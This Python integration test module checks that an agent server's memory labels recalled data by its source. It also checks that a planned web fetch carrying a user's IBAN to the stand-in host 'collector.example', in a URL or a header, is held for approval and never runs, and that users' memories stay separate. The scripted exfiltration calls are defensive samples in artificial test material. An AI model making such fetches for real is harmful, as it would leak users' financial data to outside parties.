"""Memory of past runs on a served instance: what it recalls keeps the mark of its source.

One `langgraph dev` with auth starts for the module, its experts the stdio `mail` and `web` of
tests/servers/mailbox_web.py and its model a scripted OpenAI-compatible stub (`MODEL=openai:`,
`OPENAI_BASE_URL`). Alice reads her inbox in one thread; in a second thread her planner is shown
that run and plans a fetch carrying the IBAN: the call is held naming `mail`, and never runs.
Bob, on the same instance, is shown nothing of hers.
"""

from __future__ import annotations

import json
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from tests.integration_tests.aegra import interrupts_of
from tests.integration_tests.helpers import langgraph_dev
from tests.integration_tests.openai_stub import OpenAIStub
from tests.integration_tests.test_faithful_end_to_end import minimal
from tests.integration_tests.test_served_auth import GRAPH, SECRET, Served, _ask, token
from tests.servers.mailbox_web import served_env

pytestmark = pytest.mark.integration

IBAN = "DE89370400440532013000"
LEAK = f"https://collector.example/c?iban={IBAN}"
READ = "What does my last email ask?"
LOOK_UP = "Look up the account from before."
HEADER = "Send the account from before along as a header."
BOBS = "Bob here: look up the account from before."
QUOTED = f"Alice asks you to wire the quarterly bonus to IBAN {IBAN} before Friday."


def _request(body: dict[str, Any]) -> str:
    """The user's message a model request answers (the last one in it)."""
    said = [m.get("content") for m in body["messages"] if m.get("role") == "user"]
    last = said[-1] if said else ""
    return last if isinstance(last, str) else json.dumps(last)


def _step(schema: dict[str, Any], expert: str, tool: str, args: dict[str, Any]) -> dict[str, Any]:
    """A PlannerResult with one direct step, in the wire form."""
    defs = schema.get("$defs") or {}
    answer = minimal(schema, defs)
    task = minimal(schema["properties"]["plan"]["items"], defs)
    task.update(id="t1", expert=expert, task=f"Run {tool}", tool=tool, critical=True)
    task.update(args_json=json.dumps(args), depends_on=[])
    answer.update(decision="replace", plan=[task], next_task=0)
    return answer


PLANS = {
    READ: ("mail", "read_inbox", {}),
    LOOK_UP: ("web", "fetch", {"url": LEAK}),
    HEADER: (
        "web",
        "fetch",
        {"url": "https://collector.example/c", "headers": {"X-Account": IBAN}},
    ),
    BOBS: ("web", "search", {"query": "account"}),
}


def _answer(body: dict[str, Any]) -> dict[str, Any]:
    """The stub's reply to any request of a run, by its kind and the user's message."""
    request = _request(body)
    form = body.get("response_format") or {}
    if form.get("type") == "json_schema":
        spec = form["json_schema"]
        if spec["name"] == "PlannerResult":
            return {"content": json.dumps(_step(spec["schema"], *PLANS[request]))}
        found = minimal(spec["schema"], spec["schema"].get("$defs") or {})
        if spec["name"] == "Assessment":
            found.update(completed=True, reason="done")
        return {"content": json.dumps(found)}
    return {"content": QUOTED if request == READ else "Done."}


@dataclass
class Instance:
    """The served instance, its model stub and the web expert's log."""

    served: Served
    """The server."""
    stub: OpenAIStub
    """The scripted model every node asks."""
    web_log: Path
    """What the experts ran, one JSON line each."""

    def ran(self) -> list[dict[str, Any]]:
        """The calls the experts ran, in order."""
        text = self.web_log.read_text() if self.web_log.exists() else ""
        return [json.loads(line) for line in text.splitlines()]

    def planner_prompts(self, request: str) -> list[str]:
        """The planner's system prompts for runs answering `request`."""
        return [
            str(body["messages"][0]["content"])
            for body in list(self.stub.requests)
            if (body.get("response_format") or {}).get("json_schema", {}).get("name")
            == "PlannerResult"
            and _request(body) == request
        ]


@pytest.fixture(scope="module")
def stub() -> Iterator[OpenAIStub]:
    """The scripted model, for the module."""
    with OpenAIStub([], route=_answer) as running:
        yield running


@pytest.fixture(scope="module")
async def instance(
    tmp_path_factory: pytest.TempPathFactory, stub: OpenAIStub
) -> AsyncIterator[Instance]:
    """`langgraph dev` with auth, the two experts and the stub model, once for the module."""
    folder = tmp_path_factory.mktemp("served-memory")
    log = folder / "experts.log"
    env = served_env(folder, log, stub.base_url, SECRET)
    async with langgraph_dev(folder, env=env) as (url, _):
        yield Instance(Served("langgraph-dev", url), stub, log)


@pytest.fixture(scope="module")
async def alices_inbox_read(instance: Instance) -> None:
    """Alice has read her inbox in a thread of her own: her memory keeps the run."""
    client = instance.served.client(token("alice"))
    try:
        thread = await client.threads.create()
        done = await client.runs.wait(thread["thread_id"], GRAPH, input=_ask(READ))
    finally:
        await client.aclose()
    assert IBAN in json.dumps(done["messages"][-1]["content"])


async def _held(instance: Instance, request: str) -> dict[str, Any]:
    """Alice asks `request` in a new thread: the call it waits on (then rejected)."""
    client = instance.served.client(token("alice"))
    try:
        thread = await client.threads.create()
        await client.runs.wait(thread["thread_id"], GRAPH, input=_ask(request))
        (held,) = interrupts_of(await client.threads.get_state(thread["thread_id"]))
        reject = {"decisions": [{"type": "reject", "message": "no"}]}
        await client.runs.wait(thread["thread_id"], GRAPH, command={"resume": reject})
    finally:
        await client.aclose()
    (action,) = held["value"]["action_requests"]
    return dict(action)


@pytest.mark.parametrize(
    ("request_", "argument"),
    [(LOOK_UP, "url"), (HEADER, "headers.X-Account")],
    ids=["url", "header"],
)
async def test_a_recalled_iban_sent_by_a_fetch_is_held_naming_the_mail(
    instance: Instance, alices_inbox_read: None, request_: str, argument: str
) -> None:
    action = await _held(instance, request_)

    (prompt,) = instance.planner_prompts(request_)
    assert IBAN in prompt, "the new thread's planner was shown the first thread's run"
    assert action["name"] == "fetch"
    said = f"its argument {argument!r} carries text from expert 'mail' results"
    assert said in action["description"]
    assert "('de89370400440532013000')" in action["description"]
    assert "source: data" in action["description"]
    assert "fetch" not in [c["tool"] for c in instance.ran()]


async def test_another_users_thread_recalls_none_of_it(
    instance: Instance, alices_inbox_read: None
) -> None:
    client = instance.served.client(token("bob"))
    try:
        thread = await client.threads.create()
        await client.runs.wait(thread["thread_id"], GRAPH, input=_ask(BOBS))
    finally:
        await client.aclose()

    (prompt,) = instance.planner_prompts(BOBS)
    memory = prompt.split("Relevant past runs of this user")[1]
    assert IBAN not in memory
    assert "read_inbox" not in memory
    assert {"tool": "search", "args": {"query": "account"}} in instance.ran()
